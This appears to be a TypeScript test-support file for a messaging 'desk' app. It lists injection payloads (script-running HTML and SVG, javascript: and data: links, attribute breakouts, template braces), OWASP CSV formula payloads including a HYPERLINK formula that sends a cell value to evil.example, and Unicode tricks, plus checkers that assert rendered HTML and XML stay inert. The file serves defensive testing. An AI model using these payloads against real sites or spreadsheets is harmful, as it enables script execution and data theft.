// Text an attacker (or a careless paste) can put into the desk: markup, script, unsafe links,
// attribute breakouts, spreadsheet formulas and Unicode tricks. Every surface that shows or
// writes untrusted text is tested against all of it, with the small checkers below.
//
// The script payloads set `window.__pwned = true` or call `alert()`, so a browser journey can
// tell whether anything ran: it installs the flag and listens for dialogs.

/** One hostile text and the words that must still be readable wherever it is shown. */
export interface InjectionPayload {
  name: string;
  text: string;
  /** A piece of the text that every rendering must show as text (not swallowed as markup). */
  marker: string;
}

/** Markup and script: HTML, SVG, frames, unsafe links in the desk's markdown, breakouts. */
export const MARKUP_PAYLOADS: readonly InjectionPayload[] = [
  {
    name: 'img onerror',
    text: '<img src=x onerror="window.__pwned=true;alert(1)">',
    marker: 'onerror=',
  },
  {
    name: 'script element',
    text: '<script>window.__pwned=true;alert(1)</script>',
    marker: '<script>',
  },
  {
    name: 'iframe srcdoc',
    text: '<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>',
    marker: '<iframe srcdoc=',
  },
  {
    name: 'svg onload',
    text: '<svg onload="window.__pwned=true;alert(1)">',
    marker: '<svg onload',
  },
  {
    name: 'svg script',
    text: '<svg><script>window.__pwned=true</script></svg>',
    marker: '<svg><script>',
  },
  {
    name: 'javascript link',
    text: '[js-link](javascript:window.__pwned=true)',
    marker: 'js-link',
  },
  { name: 'javascript link mixed case', text: '[js-case](JaVaScRiPt:alert(1))', marker: 'js-case' },
  {
    name: 'data link',
    text: '[data-link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    marker: 'data-link',
  },
  { name: 'vbscript link', text: '[vb-link](vbscript:msgbox(1))', marker: 'vb-link' },
  { name: 'javascript autolink', text: '<javascript:alert(1)>', marker: 'alert(1)' },
  { name: 'image markdown', text: '![pic](javascript:alert(1))', marker: 'pic' },
  {
    name: 'raw anchor',
    text: '<a href="javascript:alert(1)">raw-anchor</a>',
    marker: 'raw-anchor',
  },
  {
    name: 'attribute breakout double',
    text: '" onmouseover="window.__pwned=true" x="',
    marker: 'onmouseover=',
  },
  {
    name: 'attribute breakout single',
    text: "' autofocus onfocus='alert(1)' x='",
    marker: 'onfocus=',
  },
  {
    name: 'closing tags',
    text: '</textarea></title></style><script>alert(1)</script>',
    marker: '</textarea>',
  },
  {
    name: 'template braces',
    text: "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    marker: '{{constructor',
  },
  {
    name: 'entities',
    text: '&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#60;i&#62;',
    marker: '&lt;b&gt;',
  },
];

/** Cells a spreadsheet would run as a formula (OWASP's CSV injection list). */
export const CSV_FORMULA_PAYLOADS: readonly InjectionPayload[] = [
  { name: 'equals cmd', text: "=cmd|' /C calc'!A0", marker: "cmd|' /C calc'!A0" },
  {
    name: 'hyperlink',
    text: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    marker: 'HYPERLINK',
  },
  { name: 'plus', text: "+1+cmd|' /C calc'!A0", marker: "+cmd|' /C calc'!A0" },
  { name: 'minus', text: "-2+3+cmd|' /C calc'!A0", marker: "+3+cmd|'" },
  { name: 'at', text: "@SUM(1+1)*cmd|' /C calc'!A0", marker: 'SUM(1+1)' },
  { name: 'tab led', text: '\t=1+1', marker: '=1+1' },
  { name: 'carriage return led', text: '\r=1+1', marker: '=1+1' },
];

/** Unicode that has fooled renderers: bidi overrides, long words, controls, joined emoji. */
export const UNICODE_PAYLOADS: readonly InjectionPayload[] = [
  {
    name: 'bidi override',
    text: 'invoice\u202Efdp.exe and \u2066isolate\u2069',
    marker: 'invoice',
  },
  { name: 'very long word', text: `W${'a'.repeat(3000)}rd`, marker: 'aaaaaaaaaaaaaaaaaaaa' },
  // No NUL: it cannot travel through every store; the other C0 controls must.
  {
    name: 'control characters',
    text: 'bell\u0007 esc\u001b[31m red\u0008 del\u007f end',
    marker: 'bell',
  },
  { name: 'emoji zwj', text: 'family 👩‍👩‍👧‍👦 flag 🏳️‍🌈 skin 👍🏽', marker: '👩‍👩‍👧‍👦' },
];

/** Everything, for the surfaces that show text. */
export const INJECTION_PAYLOADS: readonly InjectionPayload[] = [
  ...MARKUP_PAYLOADS,
  ...CSV_FORMULA_PAYLOADS,
  ...UNICODE_PAYLOADS,
];

/** Link schemes a rendered link may carry; anything else must have been dropped. */
const SAFE_HREF = /^(?:https?:|tg:|mailto:)/i;

/** The tags and attributes one HTML surface may write. */
export interface MarkupPolicy {
  tags: readonly string[];
  /** Attribute names allowed per tag (absent: none). */
  attributes?: Readonly<Record<string, readonly string[]>>;
}

/** Telegram Bot API HTML as the desk writes it. */
export const TELEGRAM_POLICY: MarkupPolicy = {
  tags: ['b', 'i', 's', 'code', 'pre', 'a', 'blockquote'],
  attributes: { a: ['href'] },
};

/** The HTML of feeds and webhooks. */
export const WEB_POLICY: MarkupPolicy = {
  tags: ['p', 'br', 'strong', 'em', 's', 'code', 'pre', 'a', 'ul', 'ol', 'li', 'blockquote', 'img'],
  attributes: { a: ['href'], img: ['src', 'alt'], ol: ['start'] },
};

const TAG_RE = /<(\/?)([^\s>/]*)([^>]*)>/g;
const ATTRS_RE = /^(?:\s+[a-z]+="[^"<>]*")*\s*\/?$/;
const ENTITY_RE = /^&(?:amp|lt|gt|quot|#39|#\d+|#x[0-9a-f]+);/i;

/**
 * Throws unless `html` holds only the policy's tags and attributes, every link goes to an
 * allowed scheme, and the text between tags has no stray `<`, `>` or bare `&`.
 */
export function assertInertHtml(html: string, policy: MarkupPolicy): void {
  for (const m of html.matchAll(TAG_RE)) {
    const [tag, , name = '', attrs = ''] = m;
    if (!policy.tags.includes(name.toLowerCase())) throw new Error(`live tag ${tag}`);
    if (!ATTRS_RE.test(attrs)) throw new Error(`malformed attributes in ${tag}`);
    for (const a of attrs.matchAll(/([a-z]+)="([^"]*)"/g)) {
      const [, attr = '', value = ''] = a;
      if (!(policy.attributes?.[name] ?? []).includes(attr)) throw new Error(`attribute ${tag}`);
      if ((attr === 'href' || attr === 'src') && !SAFE_HREF.test(decodeHtml(value))) {
        throw new Error(`unsafe link ${tag}`);
      }
    }
  }
  const text = html.replace(TAG_RE, '');
  if (/[<>]/.test(text)) throw new Error('a raw < or > outside a tag');
  for (let i = text.indexOf('&'); i >= 0; i = text.indexOf('&', i + 1)) {
    if (!ENTITY_RE.test(text.slice(i))) throw new Error(`a bare & at ${i}`);
  }
}

/** The text an HTML fragment shows: tags dropped, entities decoded. */
export function htmlText(html: string): string {
  return decodeHtml(html.replace(TAG_RE, ''));
}

function decodeHtml(text: string): string {
  return text.replace(/&(amp|lt|gt|quot|#39|#\d+|#x[0-9a-f]+);/gi, (_, name: string) => {
    const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" };
    const known = named[name.toLowerCase()];
    if (known !== undefined) return known;
    const hex = name.toLowerCase().startsWith('#x');
    return String.fromCodePoint(Number.parseInt(name.slice(hex ? 2 : 1), hex ? 16 : 10));
  });
}

/** Spreadsheet formula starts (OWASP): a cell starting with one of these must not reach a file. */
export const FORMULA_START = /^[=+\-@\t\r]/;

const XML_CHARS = /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]*$/u;
const XML_TAG = /^<(\/?)([A-Za-z_][\w.:-]*)((?:\s+[\w:.-]+="[^"<]*")*)\s*(\/?)>$/;

/**
 * Throws unless `xml` is a well-formed XML document as the feeds write it: allowed characters,
 * tags that balance under one root, attribute values without `<`, and only known references.
 * (No DTD, CDATA or comments: the feeds write none, so their presence is a failure.)
 */
export function assertWellFormedXml(xml: string): void {
  if (!XML_CHARS.test(xml)) throw new Error('a character XML 1.0 forbids');
  const body = xml.replace(/^<\?xml[^?]*\?>/, '');
  if (body.includes('<!') || body.includes('<?')) throw new Error('unexpected declaration');
  const open: string[] = [];
  let closedRoot = false;
  for (const token of body.split(/(<[^>]*>)/)) {
    if (token.startsWith('<')) {
      const m = XML_TAG.exec(token);
      if (!m || closedRoot) throw new Error(`malformed or stray tag ${token.slice(0, 80)}`);
      const [, closing, name = '', attrs = '', selfClosing] = m;
      checkReferences(attrs);
      if (closing) {
        if (open.pop() !== name) throw new Error(`unbalanced </${name}>`);
        closedRoot = open.length === 0;
      } else if (!selfClosing) open.push(name);
    } else {
      if (/[<>]/.test(token)) throw new Error('a raw < or > in text');
      checkReferences(token);
      if (open.length === 0 && token.trim() !== '') throw new Error('text outside the root');
    }
  }
  if (open.length > 0 || !closedRoot) throw new Error('unclosed elements');
}

function checkReferences(text: string): void {
  for (let i = text.indexOf('&'); i >= 0; i = text.indexOf('&', i + 1)) {
    if (!/^&(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);/i.test(text.slice(i))) {
      throw new Error(`a bare & at ${i}`);
    }
  }
}
